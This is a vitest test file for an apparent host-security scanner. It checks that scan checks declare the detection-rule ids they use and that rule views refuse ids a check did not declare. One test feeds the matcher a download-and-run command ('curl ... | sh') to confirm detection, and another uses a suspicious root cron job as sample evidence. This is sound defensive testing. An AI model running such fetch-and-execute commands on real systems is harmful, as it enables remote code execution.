/**
 * Checks name some rules in their code (the rules they fire by their own logic). Each
 * declares those ids (Check.ruleIds) so that a mistyped or removed id fails when the
 * rules load, never in the middle of a scan: these tests fail when a check names an id
 * no pack defines, or an id it did not declare.
 */
import { describe, expect, it } from 'vitest';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { ALL_CHECKS } from '../../src/checks/index.js';
import { assertDeclaredRules, rulesForCheck } from '../../src/rules/check-rules.js';
import { RuleSet } from '../../src/rules/ruleset.js';
import { builtinRuleDirs } from '../../src/rules/loader.js';

const CHECKS_DIR = path.resolve(import.meta.dirname, '../../src/checks');

/**
 * A check's own module: src/checks/<id>.ts, src/checks/<id>/check.ts for a check with a
 * folder, or src/checks/<platform>/<name>.ts for a check of a platform's folder whose id is
 * "<platform>-<name>" (src/checks/windows/services.ts is windows-services).
 */
function checkModule(id: string): string {
  const single = path.join(CHECKS_DIR, `${id}.ts`);
  if (existsSync(single)) return single;
  const dash = id.indexOf('-');
  const platform = dash > 0 ? path.join(CHECKS_DIR, id.slice(0, dash), `${id.slice(dash + 1)}.ts`) : '';
  return platform && existsSync(platform) ? platform : path.join(CHECKS_DIR, id, 'check.ts');
}

/**
 * The source files of a check: its own module and the modules under src/checks whose code
 * it imports, transitively; another check's module names that check's rules, so it is not followed.
 */
function checkSources(id: string): string[] {
  const checkFiles = new Set(ALL_CHECKS.map((c) => checkModule(c.id)));
  const seen = new Set<string>();
  const visit = (file: string) => {
    if (seen.has(file)) return;
    seen.add(file);
    // Type-only imports run no code.
    for (const m of readFileSync(file, 'utf8').matchAll(/^import (?!type )[^;]*? from '(\.\.?\/[\w./-]+)\.js'/gm)) {
      const helper = path.resolve(path.dirname(file), `${m[1]}.ts`);
      if (helper.startsWith(CHECKS_DIR + path.sep) && !checkFiles.has(helper)) visit(helper);
    }
  };
  visit(checkModule(id));
  return [...seen];
}

describe('rule ids named by checks', () => {
  it('every id a built-in check declares is defined by a pack', async () => {
    const rules = await RuleSet.load();
    expect(() => assertDeclaredRules(ALL_CHECKS, rules)).not.toThrow();
    const typo = { id: 'cron', ruleIds: ['cron.binary-job', 'cron.binary-jobs'] };
    expect(() => assertDeclaredRules([typo], rules)).toThrow(/check cron fires rule "cron\.binary-jobs".*no rule pack defines/);
  });

  it('every rule id a check\'s code quotes is one it declares', async () => {
    const rules = await RuleSet.load();
    const defined = new Set(rules.all().map((r) => r.id));
    const undeclared: string[] = [];
    for (const check of ALL_CHECKS) {
      const declared = new Set(check.ruleIds ?? []);
      for (const file of checkSources(check.id)) {
        for (const m of readFileSync(file, 'utf8').matchAll(/'([a-z0-9][a-z0-9-]*\.[a-z0-9._-]+)'/g)) {
          if (defined.has(m[1]!) && !declared.has(m[1]!)) undeclared.push(`${check.id}: ${m[1]} (${path.basename(file)})`);
        }
      }
    }
    expect([...new Set(undeclared)]).toEqual([]);
  });

  it('a built-in pack is named after the check that reads it, unless several read it', () => {
    // Shared: the command-line rules (every check that scans command lines), the correlation
    // rules (src/engine/correlate.ts), two data files that hold no rules, the Windows
    // command-line rules (every Windows check that scans command lines), and the Windows
    // registry packs, read by the registry checks of src/checks/windows (services, autostart,
    // defender) through the one registry-value scope.
    const shared = ['command-lines', 'correlation', 'blocklist', 'miner-pools', 'windows-commands', 'windows-registry', 'windows-registry-defender'];
    const checks = new Set(ALL_CHECKS.map((c) => c.id));
    const packs = readdirSync(builtinRuleDirs()[0]!).filter((n) => n.endsWith('.yaml')).map((n) => n.slice(0, -'.yaml'.length));
    expect(packs.filter((p) => !shared.includes(p) && !checks.has(p))).toEqual([]);
  });

  it('the rule set a check is given refuses an id it did not declare', async () => {
    const rules = await RuleSet.load();
    const view = rulesForCheck({ id: 'cron', ruleIds: ['cron.binary-job'] }, rules);
    const input = { path: '/etc/crontab', line: 3, evidence: '* * * * * root /tmp/x' };
    expect(view.finding('cron.binary-job', input).rule).toBe('cron.binary-job');
    expect(() => view.finding('accounts.created', input)).toThrow(/check cron names rule "accounts\.created", which it does not declare/);
    expect(() => view.get('cron.binary-jobs')).toThrow(/does not declare/);
    // Rules found by matching come as Rule objects and are not restricted; the rest of the set is the same.
    expect(view.finding(rules.get('accounts.created'), input).rule).toBe('accounts.created');
    expect(view.all()).toHaveLength(rules.all().length);
    expect(view.matchLines('cron', '/etc/crontab', 'curl -s http://h/x | sh').map((h) => h.rule.id)).toContain('command.download-and-run');
  });
});
